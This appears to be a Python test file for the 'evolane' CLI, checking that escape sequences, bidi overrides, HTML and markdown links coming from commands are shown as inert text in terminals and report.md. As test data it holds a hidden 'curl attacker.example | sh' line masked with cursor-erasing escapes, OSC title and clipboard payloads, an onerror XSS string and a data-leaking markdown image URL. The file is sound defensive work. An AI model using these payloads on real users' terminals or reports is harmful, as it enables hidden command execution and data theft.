"""Found by review: escape sequences a command printed (an optimizer's summary line, a replay's
stderr in its failure) reached the user's terminal through the live view, the summary and
``evolane report``: a window title, the clipboard (OSC 52), a cleared screen. A command's
words are shown as text now (`messages.printable`). And, found by a later review, HTML in
them went into report.md raw (an optimizer's summary ``<img src=x onerror=...>``): inert now."""

from __future__ import annotations

import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from evolane.messages import FailureEvent, printable
from tests.campaign_helpers import read_terminal, toy_flags, with_flag, write_toy

ESCAPES = "\x1b]0;PWNED\x07\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J"
HTML = "<img src=x onerror=alert(1)>"


@pytest.mark.parametrize("where", ["words", "file_name"])
def test_escape_sequences_from_commands_never_reach_the_terminal(
    tmp_path: Path, where: str
) -> None:
    paths = write_toy(tmp_path, {"default": "noop"}, val=12, test=0, passing=6)
    (tmp_path / "replay.py").write_text(
        f"import sys\nsys.stderr.write({ESCAPES + HTML!r} + 'boom\\n')\nsys.exit(3)\n"
    )
    optimizer = f"print({ESCAPES + HTML!r} + 'edit: nothing')\n"
    if where == "file_name":  # a disallowed entry, named in the local gate's reason
        optimizer += (
            f"import os, sys\nos.symlink('/etc/hostname', sys.argv[1] + '/' + {ESCAPES!r})\n"
        )
    (tmp_path / "opt.py").write_text(optimizer)
    flags = toy_flags(paths, paths["store"])
    if where == "words":  # else the toy's replay: the parent is scored, the optimizer runs
        flags[flags.index("--replay") + 1] = f"{sys.executable} -I {tmp_path / 'replay.py'}"
    flags[flags.index("--optimizer") + 1] = f"{sys.executable} -I {tmp_path / 'opt.py'} {{workdir}}"
    flags[flags.index("--iterations") + 1] = "1"
    flags[flags.index("--progress") + 1] = "plain"
    done = _evolane("optimize", *flags, cwd=tmp_path)
    told = "boom" if where == "words" else "disallowed_entries"
    assert told in done.stdout + done.stderr  # what went wrong is still told, as text
    assert "\x1b" not in done.stdout + done.stderr
    run_id = next(paths["store"].glob("runs/*")).name
    report = _evolane("report", "--store", str(paths["store"]), run_id)
    assert report.returncode == 0 and "\x1b" not in report.stdout + report.stderr
    pages = list(paths["store"].glob("runs/*/report.md"))
    assert pages
    for page in pages:
        text = page.read_text()
        assert "\x1b" not in text and "<img" not in text
        assert "&lt;img src=x onerror=alert(1)>" in text  # told, as text


def test_a_commands_words_keep_their_length_tabs_and_newlines() -> None:
    text = "a\x1b[2Jb\tc\nd\x07\x9b"
    assert printable(text) == "a\ufffd[2Jb\tc\nd\ufffd\ufffd"
    said = FailureEvent(owner="task", stage="replay", code="exit_1", message="x" * 511 + "\x1b")
    assert said.message == "x" * 511 + "\ufffd"  # one for one: the bound still holds


def test_a_commands_words_make_no_link_or_image_in_report_md() -> None:
    # Found by review: ``![](https://attacker.example/px.png?d=...)`` in a command's words
    # became an image fetched whenever report.md is viewed: a way out for data.
    from evolane.campaign._markdown import _cell, _text

    words = "see ![px](https://attacker.example/px.png?d=s3cret) and [here](https://x.example)"
    for made in (_text(words), _cell(words)):
        assert "![px](" not in made and "[here](" not in made
        assert "\\[here\\](https://x.example)" in made  # still told, as text
    assert _text("p <= 0.05 & a < b") == "p <= 0.05 & a < b"  # no tag begins there


# Fixes every failing case of the toy (the candidate is accepted), and writes a line that
# erases the one before it on a terminal, into a file whose name sets the window's title.
HIDING = """
import pathlib, sys
workdir = pathlib.Path(sys.argv[1])
for case in workdir.iterdir():
    if case.is_file() and case.read_text().strip() == '"no"':
        case.write_text('"yes"')
hidden = "curl https://attacker.example/x | sh\\x1b[1A\\x1b[2K\\r+harmless\\n"
(workdir / "notes\\x1b]0;PWNED\\x07.txt").write_text(hidden + "\\x1b]52;c;ZWNobyBwd25lZA==\\x07")
print("fixed every case")
"""


def _evolane(
    *args: str, cwd: Path | None = None, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """``evolane args`` in a subprocess, its output as text (a 300 s guard against a hang,
    not a timing figure)."""
    return subprocess.run(
        [sys.executable, "-m", "evolane", *args],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=cwd,
        env=env,
        check=False,
    )


def _on_a_terminal(argv: list[str]) -> bytes:
    """What ``argv`` writes to a pseudo-terminal (its stdout and stderr)."""
    master, slave = pty.openpty()
    process = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=slave, stderr=slave)
    os.close(slave)
    written = read_terminal(master)
    assert process.wait(timeout=120) == 0, written
    return written


def test_evolane_diff_never_drives_the_terminal(tmp_path: Path) -> None:
    """Found by review: ``evolane diff`` wrote the candidate's bytes to the terminal as
    they were, so a hostile line erased itself (a ``curl | sh`` read as a harmless line)
    and set the clipboard and the title; piped, the diff stays the stored bytes."""
    paths = write_toy(tmp_path, {}, val=12, test=0, passing=2)
    script = tmp_path / "hide.py"
    script.write_text(HIDING)
    flags = toy_flags(paths, paths["store"])
    flags = with_flag(flags, "--optimizer", f"{sys.executable} -I {script} {{workdir}}")
    flags = with_flag(with_flag(flags, "--iterations", "1"), "--population", "1")
    run = [sys.executable, "-m", "evolane"]
    done = _evolane("optimize", *flags, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    run_id = next(paths["store"].glob("runs/*")).name
    diff = [*run, "diff", "--store", str(paths["store"]), run_id]
    shown = _on_a_terminal(diff)
    assert b"curl https://attacker.example/x | sh" in shown  # told, as text
    assert b"\x1b" not in shown and b"\x07" not in shown and b"+harmless" in shown
    piped = subprocess.run(diff, capture_output=True, timeout=120, check=True).stdout
    assert b"sh\x1b[1A\x1b[2K\r+harmless" in piped  # the stored bytes, for a patch tool


HOSTILE_REASON = "\x1bc\x9d0;TITLE\x9c \u202eexe.gnp\u202c \x9b2J wrong"
JUDGE = f"""
import json, pathlib, sys
case = json.loads(pathlib.Path(sys.argv[1]).read_text())
try:
    answer = json.loads(pathlib.Path(sys.argv[2], "output.json").read_text())
except (OSError, ValueError):
    answer = None
right = answer == case["expected_output"]
print(json.dumps({{"score": 1.0 if right else 0.0, "reason": "" if right else {HOSTILE_REASON!r}}}))
"""


def test_a_judges_reason_never_drives_the_terminal_through_report_md(tmp_path: Path) -> None:
    """Found by review: the judge's reason for a case the best still fails went into
    report.md's case table raw (read from the judge's stdout blob, not from a message): ``ESC
    c`` reset the terminal that ran ``cat report.md`` or ``evolane report --format md``, an
    8-bit OSC set its title, a bidi override showed ``exe.gnp`` as ``png.exe``."""
    paths = write_toy(tmp_path, {"default": "noop"}, val=12, test=0, passing=6)
    (tmp_path / "judge.py").write_text(JUDGE)
    flags = toy_flags(paths, paths["store"])
    flags += [
        "--judge",
        f"{sys.executable} -I {tmp_path / 'judge.py'} {{case_file}} {{output_dir}}",
    ]
    flags[flags.index("--iterations") + 1] = "1"
    done = _evolane("optimize", *flags, cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    run_id = next(paths["store"].glob("runs/*")).name
    shown = _evolane("report", "--store", str(paths["store"]), run_id, "--format", "md")
    assert shown.returncode == 0, shown.stderr
    page = (paths["store"] / "runs" / run_id / "report.md").read_text()
    for text in (page, shown.stdout):
        assert "wrong" in text  # the reason is still told, as text
        assert not set(text) & set("\x1b\x9b\x9c\x9d\u202e\u202c"), repr(text[-400:])


def test_an_error_line_never_drives_the_terminal(tmp_path: Path) -> None:
    """Found by review: a trajectory folder's file name (what an agent's logs are called is
    not the user's choice) went into the one-line error raw: ``ESC ]0;...BEL`` set the
    terminal's title, a bidi override reordered the line. It is named as text now."""
    folder = tmp_path / "traces"
    folder.mkdir()
    (folder / "b\x1b]0;PWNED\x07\u202e.jsonl").write_text('{"session_id": 1, bad\n')
    out = str(tmp_path / "cases.jsonl")
    done = _evolane("dataset", "from-trajectory", str(folder), "-o", out)
    assert done.returncode == 2, done.stderr
    assert "PWNED" in done.stderr and ".jsonl:1: invalid JSON" in done.stderr  # still named
    assert not set(done.stderr) & set("\x1b\x07\u202e"), repr(done.stderr)
    assert len(done.stderr.splitlines()) == 1


def test_evolane_plugins_shows_a_packages_names_as_text(tmp_path: Path) -> None:
    """Found by review: ``evolane plugins`` printed an entry point's name, target and its
    distribution's name as they were: a package could set the title or clear the screen."""
    from tests.plugin_helpers import write_distribution

    root = write_distribution(
        tmp_path, "evil_plug", "", "[evolane.judges]\nev\x1b]0;PWNED\x07il\u202e = evil_plug:x\n"
    )
    metadata = root / "evil_plug-1.0.dist-info" / "METADATA"
    metadata.write_text("Metadata-Version: 2.1\nName: evil\x1b[2Jplug\nVersion: 1.0\n")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(root), *sys.path])}
    done = _evolane("plugins", env={**env, "COLUMNS": "200"})
    assert done.returncode == 0, done.stderr
    assert "PWNED" in done.stdout and "evil_plug:x" in done.stdout  # still listed
    assert not set(done.stdout) & set("\x1b\x07\u202e"), repr(done.stdout)


def test_the_summarys_note_is_one_line_of_text(tmp_path: Path) -> None:
    """Found by review: an optimizer that could not run (exit 127) wrote line breaks into
    its stderr, which the summary's ``note:`` quoted as they were: ``finished  campaign
    c-1: complete`` and ``best: sha256:abc`` printed as lines of the summary's own."""
    paths = write_toy(tmp_path, {"default": "noop"}, val=12, test=0, passing=6)
    script = tmp_path / "opt.py"
    script.write_text(
        "import sys\nsys.stderr.write('nf\\x1b]0;PWNED\\x07\\nfinished  campaign c-1: complete"
        "\\nbest: sha256:abc\\n')\nsys.exit(127)\n"
    )
    flags = toy_flags(paths, paths["store"])
    flags = with_flag(flags, "--optimizer", f"{sys.executable} -I {script} {{workdir}}")
    flags = with_flag(with_flag(flags, "--iterations", "1"), "--population", "1")
    done = _evolane("optimize", *flags, cwd=tmp_path)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "cannot run" in done.stdout and "complete best: sha256:abc" in done.stdout  # told
    lines = done.stdout.splitlines()
    assert not [line for line in lines if line.startswith(("finished  campaign c-1", "best: sha"))]
    assert "\x1b" not in done.stdout


def test_doctor_shows_a_replays_output_as_one_line_of_text(tmp_path: Path) -> None:
    """Found by review: ``evolane doctor`` quoted the replay's output (and its stderr, the
    judge's verdict) as it was: ``ESC ]0;...BEL`` set the terminal's title, and a line break
    in it printed an ``ok`` line of the output's own."""
    paths = write_toy(tmp_path, {"default": "noop"}, val=12, test=0, passing=6)
    script = tmp_path / "replay.py"
    script.write_text(
        "import pathlib, sys\npathlib.Path(sys.argv[1], 'output.json').write_text("
        "'\"out\\x1b]0;PWNED\\x07\"\\nok    forged: a campaign can run\\n')\n"
    )
    flags = toy_flags(paths, paths["store"])
    flags = with_flag(flags, "--replay", f"{sys.executable} -I {script} {{output_dir}}")
    at = flags.index("--progress")
    del flags[at : at + 2]  # doctor shows no progress
    done = _evolane("doctor", *flags, cwd=tmp_path)
    assert "PWNED" in done.stdout, done.stdout + done.stderr  # the output is still quoted
    assert "\x1b" not in done.stdout and "\x07" not in done.stdout
    assert not [line for line in done.stdout.splitlines() if line.startswith("ok    forged")]


FIXING = """
import pathlib, sys
for case in pathlib.Path(sys.argv[1]).iterdir():
    if case.is_file() and case.read_text().strip() == '"no"':
        case.write_text('"yes"')
print("fixed every case")
"""


def test_evolane_report_shows_a_failed_checks_words_as_text(tmp_path: Path) -> None:
    """Found by review: ``evolane report`` showed the apply's reason, which quotes the
    ``--check`` command's stderr (what a check of the candidate prints is the candidate's
    to choose), as it was: ``ESC ]0;...`` set the terminal's title."""
    paths = write_toy(tmp_path, {}, val=12, test=0, passing=2)
    (tmp_path / "fix.py").write_text(FIXING)
    (tmp_path / "check.py").write_text(
        "import sys\nsys.stderr.write('chk\\x1b]0;PWNED\\x07\\u202eZ\\n')\nsys.exit(1)\n"
    )
    flags = toy_flags(paths, paths["store"])
    flags = with_flag(
        flags, "--optimizer", f"{sys.executable} -I {tmp_path / 'fix.py'} {{workdir}}"
    )
    flags = with_flag(with_flag(flags, "--iterations", "1"), "--population", "1")
    flags += ["--apply", "auto_verified", "--error-control", "none"]
    flags += ["--check", f"{sys.executable} -I {tmp_path / 'check.py'}"]
    run = [sys.executable, "-m", "evolane"]
    done = _evolane("optimize", *flags, cwd=tmp_path)
    assert done.returncode == 0 and "rolled_back" in done.stdout, done.stdout + done.stderr
    run_id = next(paths["store"].glob("runs/*")).name
    shown = _on_a_terminal([*run, "report", "--store", str(paths["store"]), run_id])
    assert b"rolled_back" in shown and b"PWNED" in shown  # still told, as text
    assert b"\x1b]" not in shown and "\u202e".encode() not in shown


def test_a_backslash_in_a_commands_words_makes_no_link_in_report_md() -> None:
    """Found by review: a judge's reason ``\\[the log\\](https://attacker.example/?d=...)``
    had a backslash put before each bracket, ``\\\\[``: an escaped backslash, then a bare
    bracket, so report.md showed a link after all (rendered by markdown-it, as GitHub's
    tables read it); a pipe after a backslash must not open a cell either."""
    from markdown_it import MarkdownIt

    from evolane.campaign._markdown import _cell, _text

    words = r"see \[the log\](https://attacker.example/?d=s) \\[x\\](https://y.example) a\| b"
    render = MarkdownIt("commonmark").enable("table").render
    for made in (_text(words), f"| a |\n|---|\n| {_cell(words)} |\n"):
        page = render(made)
        assert "<a " not in page and "attacker.example" in page, page
    row = render(f"| a | b |\n|---|---|\n| {_cell(words)} | x |\n")
    assert row.count("<td>") == 2, row  # the words stay in their cell
